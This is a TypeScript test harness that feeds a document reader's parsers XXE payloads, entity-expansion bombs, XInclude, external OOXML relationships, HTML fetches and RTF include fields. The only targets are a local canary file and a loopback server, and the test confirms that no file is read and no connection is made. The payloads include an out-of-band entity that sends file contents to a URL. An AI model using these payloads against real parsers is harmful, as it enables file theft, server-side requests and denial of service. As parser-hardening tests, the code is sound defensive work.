import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { type FaultRow, told, zero } from '../fault-row.ts';
import { docxOf, sheetXml, wordXml, xlsxOf } from './bombs.ts';
import { hostileReaders, snapshotOf } from './read-hostile.ts';

const CANARY = 'canary-7f3a91';

type Target = { readonly file: string; readonly site: string };

/** Ways to make an XML parser open a file or an address, or to make it grow. Each is a declaration and a use. */
const DECLARATIONS: readonly ((target: Target) => readonly [declaration: string, use: string])[] = [
  ({ file }) => [`<!DOCTYPE a [<!ENTITY x SYSTEM "file://${file}">]>`, '&x;'],
  ({ file }) => [`<!DOCTYPE a [<!ENTITY x SYSTEM "${file}">]>`, '&x;'],
  ({ file }) => [`<!DOCTYPE a [<!ENTITY x PUBLIC "p" "file://${file}">]>`, '&x;'],
  ({ site }) => [`<!DOCTYPE a [<!ENTITY x SYSTEM "${site}">]>`, '&x;'],
  ({ site }) => [`<!DOCTYPE a SYSTEM "${site}">`, 'x'],
  ({ site }) => [`<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${site}">`, 'x'],
  ({ site }) => [`<!DOCTYPE a [<!ENTITY % p SYSTEM "${site}"> %p;]>`, 'x'],
  ({ file, site }) => [
    `<!DOCTYPE a [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM '${site}?%f;'>"> %e; %s;]>`,
    'x',
  ],
  () => [
    `<!DOCTYPE a [<!ENTITY a0 "lol">${Array.from({ length: 12 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`,
    '&a12;',
  ],
  () => [`<!DOCTYPE a [<!ENTITY a "${'x'.repeat(100_000)}">]>`, '&a;'.repeat(5000)],
  ({ site }) => [`<?xml-stylesheet type="text/xsl" href="${site}"?>`, 'x'],
  ({ file }) => ['', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>`],
  ({ site }) => ['', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${site}"/>`],
  ({ site }) => ['', `<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ${site}"/>`],
];

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const external = (kind: string, target: string): Uint8Array =>
  strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${RELATIONS}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
  );

/** The payload in each place of a package where a reader may parse it. */
const carriersOf = (declaration: string, use: string): readonly Uint8Array[] => [
  docxOf(strToU8(wordXml(`<w:p><w:r><w:t>${use}</w:t></w:r></w:p>`, declaration))),
  docxOf('<w:p/>', { 'word/styles.xml': strToU8(`<?xml version="1.0"?>${declaration}<a>${use}</a>`) }),
  docxOf('<w:p/>', { 'word/numbering.xml': strToU8(`<?xml version="1.0"?>${declaration}<a>${use}</a>`) }),
  xlsxOf(strToU8(sheetXml(`<row><c t="inlineStr"><is><t>${use}</t></is></c></row>`, '', declaration))),
  xlsxOf('<row><c t="s"><v>0</v></c></row>', {
    'xl/sharedStrings.xml': strToU8(`<?xml version="1.0"?>${declaration}<sst><si><t>${use}</t></si></sst>`),
  }),
  zipSync({ 'OFD.xml': strToU8(`<?xml version="1.0"?>${declaration}<OFD><DocBody>${use}</DocBody></OFD>`) }),
  strToU8(`<?xml version="1.0"?>${declaration}<html><body><p>${use}</p></body></html>`),
];

const payloads = ({ file, site }: Target): readonly Uint8Array[] => [
  ...DECLARATIONS.flatMap((make) => carriersOf(...make({ file, site }))),
  ...['attachedTemplate', 'image', 'oleObject', 'subDocument', 'hyperlink'].flatMap((kind) =>
    [`file://${file}`, site].map((target) =>
      docxOf('<w:p/>', { 'word/_rels/document.xml.rels': external(kind, target) }),
    ),
  ),
  strToU8(
    `<html><head><link rel=stylesheet href="${site}"><base href="${site}"><meta http-equiv=refresh content="0;url=${site}"></head><body><img src="${site}"><iframe src="file://${file}"></iframe><object data="file://${file}"></object></body></html>`,
  ),
  strToU8(
    `{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "${file}"}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDEPICTURE "${site}"}}}`,
  ),
];

const measure: FaultRow['measure'] = async () => {
  const folder = mkdtempSync(join(tmpdir(), 'gouji-canary-'));
  const file = join(folder, 'canary.txt');
  writeFileSync(file, CANARY);
  let connects = 0;
  const server = createServer((_, response) => response.end(CANARY));
  server.on('connection', () => {
    connects += 1;
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const site = `http://127.0.0.1:${(server.address() as AddressInfo).port}/x`;
  const readers = hostileReaders(1);
  let [seen, tried, slow, bugs] = [0, 0, 0, 0];
  try {
    for (const bytes of payloads({ file, site })) {
      const start = performance.now();
      const said = await readers.audit(snapshotOf(bytes), null).catch((error: Error) => {
        bugs += 1;
        return error.message;
      });
      tried += 1;
      if (performance.now() - start > 5000) slow += 1;
      const text = JSON.stringify(said, (_, value) => (typeof value === 'bigint' ? String(value) : value));
      if (text.includes(CANARY)) seen += 1;
    }
  } finally {
    await readers.close();
    await new Promise((resolve) => server.close(resolve));
    rmSync(folder, { recursive: true });
  }
  return [
    told('payloads', tried),
    zero('files seen', seen),
    zero('connections', connects),
    zero('slower than 5 s', slow),
    zero('bugs met', bugs),
  ];
};

export const externalEntities: FaultRow = {
  row: 21,
  fault: 'a document names files, addresses and entities that grow',
  promise: 'no file is opened, no connection is made, nothing grows',
  lacks: async () => null,
  measure,
};
